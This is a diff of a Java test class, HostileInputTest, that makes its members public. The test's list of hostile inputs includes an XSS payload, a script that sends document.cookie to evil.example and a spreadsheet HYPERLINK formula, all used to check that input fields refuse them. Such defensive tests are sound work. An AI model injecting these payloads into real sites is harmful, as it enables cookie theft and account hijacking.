@@ -36,9 +36,9 @@ import org.springframework.security.crypto.password.PasswordEncoder;
  * lookups) with what an attacker or a careless paste would type: each is either refused with a message that names
  * the field, leaving nothing saved or changed, or kept exactly.
  */
-class HostileInputTest extends ConsoleTest {
+public class HostileInputTest extends ConsoleTest {
 
-    static final List<String> HOSTILE = List.of(
+    public static final List<String> HOSTILE = List.of(
             "<img src=x onerror=alert(1)>",
             "<script>document.location='http://evil.example/'+document.cookie</script>",
             "x".repeat(10_000),
@@ -54,7 +54,7 @@ class HostileInputTest extends ConsoleTest {
             "=HYPERLINK(\"http://evil.example\")");
 
     /** Whether the text has what no single line takes: a line break, a tab, a control or formatting character. */
-    static boolean notOneLine(String text) {
+    public static boolean notOneLine(String text) {
         return text.strip().codePoints().anyMatch(c -> Character.isISOControl(c)
                 || Character.getType(c) == Character.FORMAT);
     }
@@ -288,7 +288,7 @@ class HostileInputTest extends ConsoleTest {
         }
     }
 
-    static void assertRefused(Throwable refusal, String label, String hostile) {
+    public static void assertRefused(Throwable refusal, String label, String hostile) {
         assertThat(refusal).as("%s with %s", label, hostile.length() > 40 ? hostile.substring(0, 40) : hostile)
                 .isInstanceOf(InvalidInputException.class);
         var invalid = (InvalidInputException) refusal;
